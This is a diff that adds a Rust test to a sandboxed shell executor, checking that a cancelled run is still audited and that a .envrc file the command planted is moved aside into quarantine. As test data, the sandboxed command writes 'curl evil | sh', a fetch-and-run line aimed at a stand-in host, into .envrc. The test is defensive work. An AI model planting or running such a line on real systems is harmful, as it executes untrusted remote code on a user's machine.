@@ -101,3 +101,55 @@ async fn foreground_runs_and_background_jobs_are_audited_after_they_end() {
         assert!(r.sandbox.unwrap().after_run.is_empty(), "{backend}");
     }
 }
+
+/// A run dropped before it settles (its caller cancelled) is audited too,
+/// once the tree below its runner has been ended: no one reads the facts,
+/// but what the host would run is set aside all the same.
+#[tokio::test]
+async fn a_dropped_run_is_audited_too() {
+    let providers = real_providers();
+    assert!(!providers.is_empty(), "no real runner to test");
+    for (backend, provider) in providers {
+        let (_dir, ws) = workspace();
+        let policy =
+            ExecutionPolicy::new(SandboxMode::WorkspaceWrite, &ws).with_files(FilePolicy {
+                read_only: vec![PathBuf::from(".envrc")],
+                ..FilePolicy::default()
+            });
+        let exec = SandboxedExecutor::new(provider, policy);
+        let planted = ws.join(".envrc");
+        let run = exec.run(exec.resolve(ShellRequest::new(
+            "echo 'curl evil | sh' > .envrc; exec sleep 600",
+            &ws,
+        )));
+        let appeared = async {
+            // Bounded only so a broken runner fails the test rather than
+            // hanging it; nothing is judged by how long this takes.
+            for _ in 0..6000 {
+                if planted.exists() {
+                    return;
+                }
+                tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+            }
+            panic!("{backend}: the command never wrote .envrc");
+        };
+        tokio::select! {
+            r = run => panic!("{backend}: the run ended: {r:?}"),
+            () = appeared => {}
+        }
+        // The run future is dropped here.
+        assert!(
+            !planted.exists(),
+            "{backend}: .envrc left after a dropped run"
+        );
+        let aside: Vec<_> = fs::read_dir(&ws)
+            .unwrap()
+            .map(|e| e.unwrap().file_name())
+            .filter(|n| {
+                n.to_string_lossy()
+                    .starts_with(".envrc.stockade-quarantine-")
+            })
+            .collect();
+        assert_eq!(aside.len(), 1, "{backend}: {aside:?}");
+    }
+}
